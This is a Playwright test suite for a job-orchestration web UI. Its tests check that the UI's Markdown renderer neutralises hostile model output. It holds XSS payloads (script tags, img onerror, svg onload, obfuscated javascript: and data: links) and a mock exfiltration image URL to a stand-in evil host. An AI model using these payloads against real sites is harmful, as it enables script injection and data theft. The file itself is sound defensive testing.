"""The web UI in a real headless Chromium, against the real API server and engine.

Each test starts an engine (SQLite in ``tmp_path``, the scripted model) and uvicorn on a free
loopback port in the test's event loop, then drives Chromium with Playwright the way an operator
would: enter a token, submit a goal, watch the plan run, open a task, download the result.

Set ``PLANWEAVE_SCREENSHOTS=docs`` to save the job page as ``docs/ui.png``.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import struct
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from planweave import Engine, Plan, TaskSpec, ToolError, tool
from planweave.config import Settings
from planweave.llm import ScriptedModel

try:
    from playwright.async_api import Browser, Page, async_playwright
except ImportError:  # the skip below says what to install
    async_playwright = None

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
]
TOKEN = "pw_ui-test-token-0123456789"
EVIL_HOST = "127.0.0.1:9"
COMPOSED = (
    "# Report\n\n"
    "Goroutines are **cheap**; use `sync.WaitGroup` to wait.\n\n"
    "- one\n- two\n\n"
    "<script>window.__pwned=1</script>\n\n"
    f"![x](http://{EVIL_HOST}/evil.png?q=secret)\n\n"
    "[the docs](https://go.dev/doc/) and [a trap](javascript:window.__pwned=2)\n"
)

pytestmark = [
    pytest.mark.skipif(
        async_playwright is None, reason="the playwright package is absent (pip install playwright)"
    ),
    pytest.mark.skipif(
        not CHROMIUM.exists(), reason="/usr/bin/chromium is absent (apt-get install chromium)"
    ),
    pytest.mark.slow,
]


def goal_replies(delay_s: float = 0.4) -> list[dict[str, Any]]:
    """A planner plan of three tasks (one depends on another), executors, a hostile composer."""
    plan = {
        "tasks": [
            {"id": "facts", "goal": "Collect facts about goroutines", "depends_on": []},
            {"id": "draft", "goal": "Draft the post from the facts", "depends_on": ["facts"]},
            {"id": "title", "goal": "Pick a title for the post", "depends_on": []},
        ]
    }
    return [
        {"match": {"role": "planner"}, "json": plan},
        {
            "match": {"role": "executor", "contains": "Collect facts"},
            "content": "Goroutines are cheap green threads.",
            "delay_s": delay_s,
        },
        {
            "match": {"role": "executor", "contains": "Draft the post"},
            "content": "DRAFT: goroutines make concurrency cheap.",
            "delay_s": delay_s,
        },
        {"match": {"role": "executor", "contains": "Pick a title"}, "content": "Go, go, go"},
        {"match": {"role": "composer"}, "content": COMPOSED},
    ]


@contextlib.asynccontextmanager
async def serve_ui(
    tmp_path: Path,
    replies: list[dict[str, Any]] | None = None,
    *,
    token: str | None = TOKEN,
    tools: list[Any] | None = None,
) -> AsyncIterator[str]:
    """The real API (with one token, or none: local mode) over a fresh engine; yields its URL."""
    from planweave.server.testing import running_server

    data_dir = tmp_path / "data"
    settings = Settings(
        data_dir=data_dir,
        tokens=f"ui:{token}" if token else {},
        rate_limit_per_s=0,
    )
    engine = Engine(
        store=f"sqlite:///{tmp_path / 'jobs.db'}",
        model=ScriptedModel(replies=replies or []),
        data_dir=data_dir,
        tools=tools or [],
    )
    try:
        async with running_server(engine, settings, keepalive_s=1.0) as api:
            yield api.url
    finally:
        await engine.close()


class Watch:
    """What the page did: every request URL, console errors and uncaught exceptions."""

    def __init__(self, page: Page) -> None:
        self.requests: list[str] = []
        self.errors: list[str] = []
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("pageerror", lambda e: self.errors.append(f"pageerror: {e}"))
        page.on(
            "console",
            lambda m: self.errors.append(f"console: {m.text}") if m.type == "error" else None,
        )

    def problems(self) -> list[str]:
        # The API answering 401 before a token is entered is expected; nothing else is.
        return [e for e in self.errors if "401" not in e]


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    assert async_playwright is not None
    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            await browser.close()


@pytest.fixture
async def page(browser: Browser) -> AsyncIterator[Page]:
    context = await browser.new_context(
        viewport={"width": 1280, "height": 800}, accept_downloads=True
    )
    context.set_default_timeout(15_000)
    page = await context.new_page()
    try:
        yield page
    finally:
        await context.close()


async def node_statuses(page: Page) -> dict[str, str]:
    statuses: dict[str, str] = await page.eval_on_selector_all(
        "svg.dag g.node",
        "nodes => Object.fromEntries(nodes.map(n => [n.dataset.taskId, n.dataset.status]))",
    )
    return statuses


async def node_box(page: Page, task_id: str) -> dict[str, float]:
    box = await page.locator(f'g.node[data-task-id="{task_id}"]').bounding_box()
    assert box is not None
    return box


def read_bytes(path: Path) -> bytes:
    return path.read_bytes()


def save_screenshot(png: bytes, name: str) -> None:
    """Keep a screenshot for the docs when PLANWEAVE_SCREENSHOTS names a folder."""
    folder = os.environ.get("PLANWEAVE_SCREENSHOTS")
    if folder:
        Path(folder).mkdir(parents=True, exist_ok=True)
        (Path(folder) / name).write_bytes(png)


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", data[16:24])
    return width, height


async def test_a_goal_submitted_in_the_browser_runs_live_and_renders_safely(
    tmp_path: Path, page: Page
) -> None:
    watch = Watch(page)
    async with serve_ui(tmp_path, goal_replies()) as url:
        await page.goto(url + "/")
        # No token yet: the server refuses, and the page says what to do.
        await page.get_by_test_id("notice").filter(has_text="API token").wait_for()
        await page.fill("#token-input", TOKEN)
        await page.click("#token-form button[type=submit]")
        await page.get_by_test_id("token-state").filter(has_text="token saved").wait_for()
        assert await page.evaluate("localStorage.getItem('planweave.token')") == TOKEN

        await page.click("a[data-nav=new]")
        await page.get_by_test_id("goal-input").fill("Write a short post about goroutines")
        await page.get_by_test_id("submit-job").click()
        await page.wait_for_url(re.compile(r"#/jobs/[^/]+$"))
        job_id = page.url.rsplit("/", 1)[1]

        # The graph is drawn from the live stream: a task is seen running, then all succeed.
        await page.locator("g.node[data-task-id=facts]").wait_for()
        await page.locator('g.node[data-status="running"]').first.wait_for()
        await page.wait_for_function(
            """() => {
                const nodes = [...document.querySelectorAll('svg.dag g.node')];
                return nodes.length === 5 && nodes.every(n => n.dataset.status === 'succeeded');
            }"""
        )
        assert await node_statuses(page) == dict.fromkeys(
            ["root", "facts", "draft", "title", "compose"], "succeeded"
        )
        await page.get_by_test_id("job-status").filter(has_text="succeeded").wait_for()
        assert await page.get_by_test_id("tasks-done").text_content() == "5/5"
        # Those updates came over Server-Sent Events (not the fallback polling).
        stream = page.get_by_test_id("stream-state")
        assert int(await stream.get_attribute("data-streamed") or 0) > 0
        await stream.filter(has_text="ended").wait_for()

        # Layered layout: a dependency sits left of its dependent, and the planned tasks are
        # drawn inside the planner task's group box.
        facts, draft = await node_box(page, "facts"), await node_box(page, "draft")
        assert facts["x"] + facts["width"] < draft["x"]
        group = await page.locator('rect.dag-group[data-group="root"]').bounding_box()
        assert group is not None
        for task_id in ("facts", "draft", "title", "compose"):
            box = await node_box(page, task_id)
            assert group["x"] < box["x"] and box["x"] + box["width"] < group["x"] + group["width"]
        assert await page.locator("path.dag-edge[data-from=facts][data-to=draft]").count() == 1

        # The task panel shows the LLM call: its prompt holds the task's goal, its reply the
        # executor's text, and the dependency's result is listed as an input.
        await page.click("g.node[data-task-id=draft]")
        detail = page.locator('[data-testid=task-detail][data-task-id="draft"]')
        await detail.wait_for()
        assert "Draft the post from the facts" in (
            await detail.get_by_test_id("llm-prompt").first.text_content() or ""
        )
        assert "DRAFT: goroutines make concurrency cheap." in (
            await detail.get_by_test_id("llm-reply").first.text_content() or ""
        )
        assert "Goroutines are cheap green threads." in (await detail.text_content() or "")

        # The composer's Markdown is rendered, and its script and image stay inert text.
        result = page.get_by_test_id("result")
        await result.locator("h1", has_text="Report").wait_for()
        assert await result.locator("strong").first.text_content() == "cheap"
        assert await result.locator("li").count() == 2
        text = await result.text_content() or ""
        assert "<script>window.__pwned=1</script>" in text
        assert f"![x](http://{EVIL_HOST}/evil.png?q=secret)" in text
        assert await page.locator("img, script:not([src]), iframe, object").count() == 0
        links = await result.locator("a").evaluate_all(
            "links => links.map(a => [a.getAttribute('href'), a.rel, a.target])"
        )
        assert links == [["https://go.dev/doc/", "noopener noreferrer", "_blank"]]
        assert await page.evaluate("typeof window.__pwned") == "undefined"

        # The events timeline lists every event once, in order, as the API has them.
        async with httpx.AsyncClient(
            base_url=url, headers={"Authorization": f"Bearer {TOKEN}"}
        ) as client:
            answer = await client.get(f"/v1/jobs/{job_id}/events", params={"format": "json"})
            stored = [e["type"] for e in answer.json()["events"]]
        await page.wait_for_function(
            "n => document.querySelectorAll('[data-testid=events] tbody tr').length === n",
            arg=len(stored),
        )
        rows = page.locator("[data-testid=events] tbody tr")
        seqs = await rows.evaluate_all("rows => rows.map(r => Number(r.dataset.seq))")
        types = await rows.evaluate_all("rows => rows.map(r => r.dataset.type)")
        assert seqs == list(range(1, len(stored) + 1))
        assert types == stored
        assert types[0] == "JobSubmitted" and types[-1] == "JobCompleted"

        # The artifact downloads through the API with the token, byte for byte.
        artifact = page.locator('[data-artifact="result.md"]')
        async with page.expect_download() as info:
            await artifact.get_by_test_id("download-artifact").click()
        download = await info.value
        assert download.suggested_filename == "result.md"
        async with httpx.AsyncClient(
            base_url=url, headers={"Authorization": f"Bearer {TOKEN}"}
        ) as client:
            stored_file = await client.get(f"/v1/jobs/{job_id}/artifacts/result.md")
        assert stored_file.status_code == 200
        assert read_bytes(await download.path()) == stored_file.content
        assert stored_file.text.strip() == COMPOSED.strip()
        await artifact.get_by_test_id("preview-artifact").click()
        await page.get_by_test_id("artifact-preview").locator("h1", has_text="Report").wait_for()

        # The job page with a task open: the project's screenshot.
        await page.click("g.node[data-task-id=draft]")
        await detail.wait_for()
        await page.evaluate("window.scrollTo(0, 0)")
        shot = await page.screenshot()
        assert png_size(shot) == (1280, 800)
        save_screenshot(shot, "ui.png")
        problems = watch.problems()

    assert problems == []
    assert not [u for u in watch.requests if EVIL_HOST in u]
    assert all(u.startswith(url) or u.startswith(("blob:", "data:")) for u in watch.requests)


async def test_the_jobs_list_follows_jobs_without_a_token_in_local_mode(
    tmp_path: Path, page: Page
) -> None:
    watch = Watch(page)
    async with serve_ui(tmp_path, goal_replies(delay_s=2.0), token=None) as url:
        await page.goto(url + "/")
        table = page.get_by_test_id("jobs-table")
        await table.get_by_text("No jobs yet.").wait_for()
        async with httpx.AsyncClient(base_url=url) as client:
            answer = await client.post("/v1/jobs", json={"goal": "Write about goroutines"})
            assert answer.status_code == 201, answer.text
            job_id = answer.json()["job_id"]
        row = page.locator(f'tr[data-job-id="{job_id}"]')
        # The list polls: the new job shows up running, then finishes, with its usage.
        await row.and_(page.locator('[data-status="running"]')).wait_for()
        await row.and_(page.locator('[data-status="succeeded"]')).wait_for(timeout=20_000)
        cells = await row.locator("td").all_text_contents()
        assert cells[0] == "succeeded"
        assert cells[1] == "Write about goroutines"
        assert cells[3].strip() == "5/5"
        assert re.fullmatch(r"\d+(\.\d)?k? / \d+(\.\d)?k?", cells[4]), cells[4]
        assert cells[5].startswith("$")
        assert await page.get_by_test_id("token-state").text_content() == "no token"
        save_screenshot(await page.screenshot(), "ui-jobs.png")

        # Filtering by status asks the server again.
        await page.get_by_test_id("status-filter").select_option("failed")
        await row.wait_for(state="detached")
        await page.get_by_test_id("status-filter").select_option("")
        await row.click()
        await page.wait_for_url(f"**/#/jobs/{job_id}")
        await page.get_by_test_id("job-goal").filter(has_text="Write about goroutines").wait_for()
        await page.get_by_test_id("stream-state").filter(has_text="ended").wait_for()
        problems = watch.problems()
    assert problems == []


async def test_a_failed_task_is_shown_and_retried_from_its_panel(
    tmp_path: Path, page: Page
) -> None:
    broken = {"on": True}

    @tool
    def flaky(text: str) -> str:
        """Echo text, unless the service is down."""
        if broken["on"]:
            raise ToolError("the service is down", retryable=True)
        return text.upper()

    plan = Plan(
        tasks=(
            TaskSpec(id="fetch", kind="tool", tool="flaky", args={"text": "data"}),
            TaskSpec(
                id="use", kind="tool", tool="flaky", args={"text": "x"}, depends_on=("fetch",)
            ),
        )
    )
    watch = Watch(page)
    async with serve_ui(tmp_path, tools=[flaky]) as url:
        await page.goto(url + "/#/new")
        await page.evaluate("t => localStorage.setItem('planweave.token', t)", TOKEN)
        await page.reload()
        await page.get_by_test_id("mode-plan").check(force=True)
        await page.get_by_test_id("plan-input").fill(json.dumps(plan.model_dump(mode="json")))
        await page.get_by_test_id("opt-priority").fill("3")
        await page.get_by_test_id("submit-job").click()
        await page.wait_for_url(re.compile(r"#/jobs/[^/]+$"))

        # Attempts fail and are retried, then the task fails for good and its dependent is
        # cancelled; the timeline shows each step.
        await page.locator('g.node[data-task-id=fetch][data-status="failed"]').wait_for()
        await page.get_by_test_id("job-status").filter(has_text="failed").wait_for()
        events = page.get_by_test_id("events")
        await events.locator('tr[data-type="TaskFailed"]').wait_for()
        assert await events.locator('tr[data-type="TaskRetrying"]').count() == 2
        assert "the service is down" in (
            await events.locator('tr[data-type="TaskFailed"] td.detail').text_content() or ""
        )
        await page.get_by_test_id("retry-job").wait_for()

        await page.click("g.node[data-task-id=fetch]")
        panel = page.get_by_test_id("task-detail")
        assert "the service is down" in (
            await panel.get_by_test_id("task-error").text_content() or ""
        )
        assert await panel.locator("dt:text-is('Attempt') + dd").text_content() == "3"
        assert await panel.locator("dt:text-is('Tool') + dd").text_content() == "flaky"

        # Retry from the panel: the job reopens, the stream resumes, and both tasks succeed.
        broken["on"] = False
        await panel.get_by_test_id("retry-task").click()
        await page.locator('g.node[data-task-id=use][data-status="succeeded"]').wait_for()
        await page.get_by_test_id("job-status").filter(has_text="succeeded").wait_for()
        await events.locator('tr[data-type="JobReopened"]').wait_for()
        assert await node_statuses(page) == {"fetch": "succeeded", "use": "succeeded"}
        await page.get_by_test_id("result").filter(has_text="X").wait_for()
        problems = watch.problems()
    assert problems == []


async def test_a_running_job_is_cancelled_then_deleted_from_its_page(
    tmp_path: Path, page: Page
) -> None:
    watch = Watch(page)
    async with serve_ui(tmp_path, goal_replies(delay_s=30.0), token=None) as url:
        async with httpx.AsyncClient(base_url=url) as client:
            answer = await client.post("/v1/jobs", json={"goal": "Take your time"})
            job_id = answer.json()["job_id"]
        await page.goto(f"{url}/#/jobs/{job_id}")
        await page.locator('g.node[data-task-id=facts][data-status="running"]').wait_for()
        await page.get_by_test_id("delete-job").wait_for(state="detached")
        await page.get_by_test_id("cancel-job").click()
        await page.get_by_test_id("job-status").filter(has_text="cancelled").wait_for()
        await page.locator('g.node[data-task-id=facts][data-status="cancelled"]').wait_for()
        await page.get_by_test_id("retry-job").wait_for()
        await page.get_by_test_id("events").locator('tr[data-type="JobCancelled"]').wait_for()

        page.once("dialog", lambda dialog: dialog.accept())
        await page.get_by_test_id("delete-job").click()
        await page.wait_for_url(f"{url}/#/")
        await page.get_by_test_id("jobs-table").get_by_text("No jobs yet.").wait_for()
        async with httpx.AsyncClient(base_url=url) as client:
            assert (await client.get(f"/v1/jobs/{job_id}")).status_code == 404
        await page.goto(f"{url}/#/jobs/{job_id}")
        await page.get_by_role("heading", name="Job not found").wait_for()
        problems = [p for p in watch.problems() if "404" not in p]
    assert problems == []


async def test_a_plan_longer_than_one_page_of_tasks_is_drawn_whole(
    tmp_path: Path, page: Page
) -> None:
    # The API answers 100 tasks a page: the page reads the rest, and draws every task.
    watch = Watch(page)
    ids = [f"t{i:03d}" for i in range(150)]
    tasks = [
        {
            "id": i,
            "kind": "tool",
            "tool": "current_time",
            "depends_on": [ids[n - 1]] if n > 140 else [],
        }
        for n, i in enumerate(ids)
    ]
    async with serve_ui(tmp_path, token=None) as url:
        async with httpx.AsyncClient(base_url=url) as client:
            answer = await client.post("/v1/jobs", json={"plan": {"tasks": tasks}})
            assert answer.status_code == 201, answer.text
            job_id = answer.json()["job_id"]
            for _ in range(600):
                job = (await client.get(f"/v1/jobs/{job_id}")).json()
                if job["status"] != "running":
                    break
                await asyncio.sleep(0.05)
            assert job["status"] == "succeeded" and len(job["tasks"]) == 100
        await page.goto(f"{url}/#/jobs/{job_id}")
        done = page.get_by_test_id("tasks-done").filter(has_text="150/150")
        await done.wait_for(timeout=60_000)  # some 900 events to read first, on a busy box
        statuses = await node_statuses(page)
        assert sorted(statuses) == ids
        assert set(statuses.values()) == {"succeeded"}
        assert await page.locator("path.dag-edge[data-from=t148][data-to=t149]").count() == 1
        assert any("/tasks?after=t099" in r for r in watch.requests), watch.requests
    assert watch.problems() == []


async def test_the_markdown_renderer_keeps_hostile_text_inert(tmp_path: Path, page: Page) -> None:
    payloads = {
        "script": "<script>window.__pwned=1</script>",
        "img_html": '<img src="http://127.0.0.1:9/a.png" onerror="window.__pwned=1">',
        "img_md": "![alt](http://127.0.0.1:9/b.png)",
        "img_ref_in_link": "[![x](http://127.0.0.1:9/c.png)](https://example.com/)",
        "js_link": "[a](javascript:window.__pwned=1)",
        "js_link_case": "[a](JaVaScRiPt:window.__pwned=1)",
        "js_link_tab": "[a](java\tscript:window.__pwned=1)",
        "data_link": "[a](data:text/html,<script>alert(1)</script>)",
        "relative": "[a](//127.0.0.1:9/x) [b](/v1/jobs)",
        "html_link": '<a href="javascript:window.__pwned=1">x</a>',
        "svg": '<svg onload="window.__pwned=1"></svg>',
        "code": "```html\n<script>window.__pwned=1</script>\n```",
        # Thousands of unmatched markers must render promptly (no quadratic search).
        "markers": "*a _b [c `d ![e " * 20_000,
    }
    watch = Watch(page)
    async with serve_ui(tmp_path, token=None) as url:
        await page.goto(url + "/#/dlq")
        rendered = await page.evaluate(
            """async (payloads) => {
                const { renderMarkdown } = await import('/static/markdown.js');
                const out = {};
                for (const [name, src] of Object.entries(payloads)) {
                    const el = renderMarkdown(src);
                    document.body.appendChild(el);
                    out[name] = {
                        text: el.textContent,
                        tags: [...el.querySelectorAll('*')].map(n => n.tagName.toLowerCase()),
                        hrefs: [...el.querySelectorAll('a')].map(a => a.getAttribute('href')),
                        attrs: [...el.querySelectorAll('*')].flatMap(n => n.getAttributeNames()),
                    };
                }
                await new Promise(r => setTimeout(r, 300));
                return out;
            }""",
            payloads,
        )
        assert await page.evaluate("typeof window.__pwned") == "undefined"
        problems = watch.problems()
    assert problems == []
    for name, out in rendered.items():
        assert not {"script", "img", "svg", "iframe", "object"} & set(out["tags"]), name
        assert all(not a.startswith("on") and a != "style" for a in out["attrs"]), name
        assert all(h.startswith(("https://", "http://", "mailto:")) for h in out["hrefs"]), name
    assert rendered["script"]["text"] == payloads["script"]
    assert rendered["img_md"]["text"] == payloads["img_md"]
    assert rendered["img_ref_in_link"]["hrefs"] == ["https://example.com/"]
    assert rendered["js_link"]["hrefs"] == [] and rendered["js_link"]["text"] == "a"
    assert rendered["relative"]["hrefs"] == []
    assert rendered["code"]["tags"] == ["pre", "code"]
    assert not [u for u in watch.requests if EVIL_HOST in u]


async def test_the_markdown_renderer_formats_common_model_output(
    tmp_path: Path, page: Page
) -> None:
    source = (
        "## Plan\n\nIntro with *em*, **strong**, ~~old~~ and `x < y`.\n\n"
        "1. first\n2. second\n   - nested one\n   - nested two\n3. third\n\n"
        "> quoted **text**\n\n"
        "| name | n |\n|---|--:|\n| a | 1 |\n| b | 2 |\n\n"
        "```python\nprint('<b>hi</b>')\n```\n\n"
        "See <https://go.dev> or mail [us](mailto:team@example.com). snake_case_name stays.\n"
    )
    async with serve_ui(tmp_path, token=None) as url:
        await page.goto(url + "/#/dlq")
        html = await page.evaluate(
            """async (src) => {
                const { renderMarkdown } = await import('/static/markdown.js');
                const el = renderMarkdown(src);
                document.body.appendChild(el);
                return el.outerHTML;
            }""",
            source,
        )
    assert "<h2>Plan</h2>" in html
    assert "<em>em</em>" in html and "<strong>strong</strong>" in html and "<del>old</del>" in html
    assert "<code>x &lt; y</code>" in html
    assert re.search(
        r"<ol><li>first</li><li>second<ul><li>nested one</li><li>nested two</li></ul></li><li>third</li></ol>",
        html,
    )
    assert "<blockquote><p>quoted <strong>text</strong></p></blockquote>" in html
    assert '<th class="align-right">n</th>' in html and "<td>b</td>" in html
    assert "<pre><code class=\"lang-python\">print('&lt;b&gt;hi&lt;/b&gt;')</code></pre>" in html
    assert 'href="https://go.dev/"' in html and 'href="mailto:team@example.com"' in html
    assert "snake_case_name stays." in html


async def test_the_event_stream_parser_and_the_graph_layout(tmp_path: Path, page: Page) -> None:
    async with serve_ui(tmp_path, token=None) as url:
        await page.goto(url + "/#/dlq")
        out = await page.evaluate(
            """async () => {
                const { SseParser } = await import('/static/sse.js');
                const { layoutDag } = await import('/static/dag.js');
                const got = [];
                const parser = new SseParser(m => got.push(m));
                const text = ': keep-alive\\r\\nid: 1\\r\\nevent: TaskReady\\r\\ndata: {"seq":1}\\r\\n\\r\\n'
                    + 'id: 2\\nevent: TaskCompleted\\ndata: {"seq":2,\\ndata: "x":1}\\n\\n';
                for (const ch of text) parser.feed(ch);  // one character at a time
                const tasks = [
                    {id: 'root', kind: 'plan', depends_on: [], parent: null},
                    {id: 'a', depends_on: [], parent: 'root'},
                    {id: 'body', kind: 'plan', depends_on: ['a'], parent: 'root'},
                    {id: 'body.s1', depends_on: [], parent: 'body'},
                    {id: 'body.s2', depends_on: ['body.s1'], parent: 'body'},
                    {id: 'compose', depends_on: ['body', 'a'], parent: 'root'},
                ];
                const l = layoutDag(tasks);
                return {
                    got, lastId: parser.lastId,
                    nodes: Object.fromEntries(l.nodes), groups: Object.fromEntries(l.groups),
                    edges: l.edges.map(e => `${e.from}>${e.to}`),
                };
            }"""
        )
    assert out["got"] == [
        {"event": "TaskReady", "data": '{"seq":1}', "id": "1"},
        {"event": "TaskCompleted", "data": '{"seq":2,\n"x":1}', "id": "2"},
    ]
    assert out["lastId"] == "2"
    nodes, groups = out["nodes"], out["groups"]
    assert set(groups) == {"root", "body"}
    # Layers follow the longest dependency path; sub-plan tasks sit inside their plan's box.
    assert nodes["a"]["x"] < nodes["body"]["x"] < nodes["compose"]["x"]
    assert nodes["body.s1"]["x"] < nodes["body.s2"]["x"]
    body = groups["body"]
    for task_id in ("body.s1", "body.s2"):
        n = nodes[task_id]
        assert body["x"] < n["x"] and n["x"] + n["w"] <= body["x"] + body["w"]
        assert body["y"] < n["y"] and n["y"] + n["h"] <= body["y"] + body["h"]
        assert n["y"] > nodes["body"]["y"]  # below the plan task's own node
    assert nodes["compose"]["x"] > body["x"] + body["w"]
    assert sorted(out["edges"]) == ["a>body", "a>compose", "body.s1>body.s2", "body>compose"]
